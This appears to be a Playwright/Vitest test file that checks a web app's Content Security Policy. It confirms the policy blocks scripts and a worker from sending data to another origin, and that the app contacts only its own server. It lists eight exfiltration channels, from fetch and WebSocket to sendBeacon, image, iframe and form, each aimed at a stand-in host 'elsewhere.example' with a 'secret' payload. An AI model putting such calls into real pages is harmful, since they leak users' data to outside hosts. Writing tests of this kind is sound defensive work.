import type { Browser, Page } from 'playwright'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { launchBrowser } from '../support/launchBrowser'
import { openApp } from './support/openApp'
import type { Complaints } from './support/watchPage'

let browser: Browser

beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser.close())

type Way = { readonly name: string; readonly directive: string; readonly open: (address: string) => void }

/** Every way a script has to send something out without leaving the page. */
const ways: readonly Way[] = [
  { name: 'fetch', directive: 'connect-src', open: (address) => void fetch(address, { method: 'POST', body: 'secret' }).catch(() => {}) },
  {
    name: 'XMLHttpRequest',
    directive: 'connect-src',
    open: (address) => {
      const request = new XMLHttpRequest()
      request.open('POST', address)
      request.send('secret')
    },
  },
  { name: 'WebSocket', directive: 'connect-src', open: (address) => void new WebSocket(address.replace('https', 'wss')) },
  { name: 'EventSource', directive: 'connect-src', open: (address) => void new EventSource(address) },
  { name: 'a beacon', directive: 'connect-src', open: (address) => void navigator.sendBeacon(address, 'secret') },
  {
    name: 'an image',
    directive: 'img-src',
    open: (address) => {
      new Image().src = address
    },
  },
  {
    name: 'a frame',
    directive: 'frame-src',
    open: (address) => {
      const frame = document.createElement('iframe')
      frame.src = address
      document.body.append(frame)
    },
  },
  {
    name: 'a form',
    directive: 'form-action',
    open: (address) => {
      const form = document.createElement('form')
      form.action = address
      document.body.append(form)
      form.submit()
    },
  },
]

it.each(ways)('the policy blocks $name to another origin', async ({ directive, open }) => {
  const { page, complaints } = await openApp(browser)
  const requests = foreignRequests(page)
  await page.evaluate(open, 'https://elsewhere.example/collect')
  await expectBlocked(complaints, directive)
  expect(requests).toEqual([])
})

it('asks nobody but its own server, the training included', async () => {
  const { page, context } = await openApp(browser, '/', { serviceWorkers: 'allow' })
  const requests = foreignRequests(page)
  context.on('request', (request) => requests.push(...foreign(request.url(), page)))
  await page.getByRole('button', { name: 'Try with sample data' }).click()
  await page.getByRole('progressbar', { name: 'Training' }).waitFor()
  expect(requests).toEqual([])
})

it('the policy binds the worker as well', async () => {
  const { page, complaints } = await openApp(browser)
  const [worker] = await Promise.all([page.waitForEvent('worker'), page.getByRole('button', { name: 'Try with sample data' }).click()])
  const blocked = await worker.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      addEventListener('securitypolicyviolation', (event) => resolve((event as unknown as SecurityPolicyViolationEvent).effectiveDirective)),
    )
    await fetch('https://elsewhere.example/collect').catch(() => {})
    return violation
  })
  expect(blocked).toBe('connect-src')
  complaints.expected(/elsewhere\.example/)
})

async function expectBlocked(complaints: Complaints, directive: string): Promise<void> {
  const violation = new RegExp(`policy violation: (${directive}|default-src) blocked (https|wss)://elsewhere\\.example`)
  await expect.poll(() => complaints.expected(violation)).not.toEqual([])
  // The browser writes its own lines about the same refusal.
  complaints.expected(/elsewhere\.example/)
}

function foreignRequests(page: Page): string[] {
  const requests: string[] = []
  page.on('requestfinished', (request) => requests.push(...foreign(request.url(), page)))
  return requests
}

function foreign(url: string, page: Page): string[] {
  const { origin, protocol } = new URL(url)
  return protocol.startsWith('http') && origin !== new URL(page.url()).origin ? [url] : []
}
